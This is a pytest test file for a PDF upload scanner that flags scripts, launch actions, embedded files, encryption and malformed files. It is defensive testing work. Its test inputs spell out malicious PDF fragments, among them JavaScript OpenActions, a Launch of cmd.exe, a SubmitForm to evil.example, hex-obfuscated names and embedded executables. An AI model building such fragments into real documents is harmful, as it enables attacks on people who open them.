"""What is in an attached PDF besides its pages is found, wherever it hides; honest PDFs pass."""

import base64
import os
import random
import time

import pytest
from pypdf import PdfWriter

import formsets
from formsets.attachments import LARGEST
from services.forms.clients.uploads.pdfs import flaws_of, rehearse
from services.forms.domain.attachment import PdfFlaw
from tests.support.pdfs import CATALOG, PAGE, a_compressed_pdf, a_pdf, pdf_of, stream

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def test_honest_pdfs_have_no_flaw():
    linked = PAGE.replace(b">>", b"/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>]>>")
    outlined = CATALOG.replace(b">>", b"/OpenAction[3 0 R/Fit]/Names<</Dests 4 0 R>>>>")

    assert flaws_of(a_pdf()) == set()
    assert flaws_of(a_compressed_pdf()) == set()
    assert flaws_of(a_pdf(page=linked)) == set()
    assert flaws_of(a_pdf(b"<</Names[]>>", catalog=outlined)) == set()


@pytest.mark.parametrize("version", formsets.available())
def test_the_attachment_that_passes_in_the_catalogue_has_no_flaw(version):
    example = formsets.load(version).examples["F-30"]["passing"]

    assert flaws_of(base64.b64decode(example["attachment"])) == set()


def test_words_in_a_text_are_no_flaw():
    text = b"BT (/Encrypt, /JavaScript, /Launch and /EmbeddedFile are explained here) Tj ET"

    assert flaws_of(a_pdf(stream(text), b"(/Encrypt)", b"[(/JS) (/EF)]")) == set()


def test_what_other_programs_write_passes(tmp_path):
    writer = PdfWriter()
    for _ in range(30):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": "Procès-verbal ☃", "/Author": "OPH de l'exemple"})
    writer.add_outline_item(title="Délibération", page_number=3)
    file = tmp_path / "pv.pdf"
    writer.write(file)

    assert flaws_of(file.read_bytes()) == set()


IN_PLAIN_OBJECTS = [
    ([SCRIPT], PdfFlaw.SCRIPT),
    ([b"<</S 5 0 R/JS(x)>>", b"/JavaScript"], PdfFlaw.SCRIPT),
    ([b"[[[<</A<</S/JavaScript/JS(x)>>>>]]]"], PdfFlaw.SCRIPT),
    ([b"<</S/Rendition/JS(x)>>"], PdfFlaw.SCRIPT),
    ([b"<</Fields[]/XFA[(a)]>>"], PdfFlaw.SCRIPT),
    ([b"<</S/Launch/F(cmd.exe)>>"], PdfFlaw.LAUNCH),
    ([b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>"], PdfFlaw.LAUNCH),
    ([b"<</S/ImportData/F(x)>>"], PdfFlaw.LAUNCH),
    ([b"<</S/GoToE/T<</R/C/N(x)>>>>"], PdfFlaw.LAUNCH),
    ([b"<</EmbeddedFiles<</Names[(a)5 0 R]>>>>", b"<</Type/Filespec>>"], PdfFlaw.EMBEDDED),
    ([b"<</Type/Annot/Subtype/FileAttachment>>"], PdfFlaw.EMBEDDED),
    ([b"<</Type/Annot/Subtype/RichMedia>>"], PdfFlaw.EMBEDDED),
]
IN_STREAMS = [
    ([b"<</S/#4aavaScript/JS 5 0 R>>", stream(b"app.alert(1)")], PdfFlaw.SCRIPT),
    ([stream(b"x", b"/AA<</O<</S/JavaScript/JS(x)>>>>")], PdfFlaw.SCRIPT),
    ([stream(b"MZ", b"/Type/EmbeddedFile")], PdfFlaw.EMBEDDED),
    ([b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", stream(b"MZ")], PdfFlaw.EMBEDDED),
]


@pytest.mark.parametrize(("objects", "flaw"), IN_PLAIN_OBJECTS + IN_STREAMS)
def test_what_acts_opens_or_hides_is_found_though_no_page_leads_there(objects, flaw):
    assert flaws_of(a_pdf(*objects)) == {flaw}


@pytest.mark.parametrize(("objects", "flaw"), IN_PLAIN_OBJECTS)
def test_it_is_found_in_compressed_objects_too(objects, flaw):
    assert flaws_of(a_compressed_pdf(*objects)) == {flaw}


def test_an_action_when_it_is_opened_is_found():
    catalog = CATALOG.replace(b">>", b"/OpenAction " + SCRIPT + b">>")

    assert flaws_of(a_pdf(catalog=catalog)) == {PdfFlaw.SCRIPT}
    assert flaws_of(a_compressed_pdf(catalog=catalog)) == {PdfFlaw.SCRIPT}


def test_everything_that_is_wrong_is_said():
    content = a_pdf(SCRIPT, b"<</S/Launch/F(a)>>", stream(b"MZ", b"/Type/EmbeddedFile"))

    assert flaws_of(content) == {PdfFlaw.SCRIPT, PdfFlaw.LAUNCH, PdfFlaw.EMBEDDED}


@pytest.mark.parametrize("algorithm", ["RC4-40", "RC4-128", "AES-128", "AES-256"])
@pytest.mark.parametrize("password", ["", "secret"])
def test_an_encrypted_pdf_is_told_whatever_its_password(algorithm, password, tmp_path):
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(password, "owner", algorithm=algorithm)
    file = tmp_path / "e.pdf"
    writer.write(file)

    assert flaws_of(file.read_bytes()) == {PdfFlaw.ENCRYPTED}


def test_another_handler_of_security_is_encryption_too():
    assert flaws_of(a_pdf(b"<</Filter/Adobe.PubSec/V 4>>", trailer=b"/Encrypt 4 0 R")) == {PdfFlaw.ENCRYPTED}


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n%%EOF",
        b"%PDF-<html><script>alert(1)</script>%%EOF",
        b"%PDF-1.4\nX5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\n%%EOF",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        pdf_of([CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"]),
        pdf_of([CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        pdf_of([b"<</Type/Catalog/Pages 1 0 R>>"]),
        b"%PDF-1.7\n" + b"[" * 200_000 + b"\n%%EOF",
        a_pdf(b"<<" * 5_000),
        b"",
    ],
)
def test_what_is_no_document_is_damaged(content):
    assert flaws_of(content) == {PdfFlaw.DAMAGED}


def test_no_content_makes_the_look_fail_otherwise():
    sound, chance = a_pdf(SCRIPT, stream(os.urandom(50))), random.Random(7)
    for _ in range(300):
        spoilt = bytearray(sound)
        for _ in range(chance.randint(1, 12)):
            spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
        assert flaws_of(bytes(spoilt)) <= set(PdfFlaw)


def test_a_large_honest_pdf_is_looked_into_within_its_time():
    content = a_pdf(*(stream(os.urandom(4_000)) for _ in range(LARGEST // 4_500)))
    began = time.process_time()

    assert flaws_of(content) == set()
    assert time.process_time() - began < 8


def test_the_rehearsal_reads_a_sound_pdf():
    rehearse()
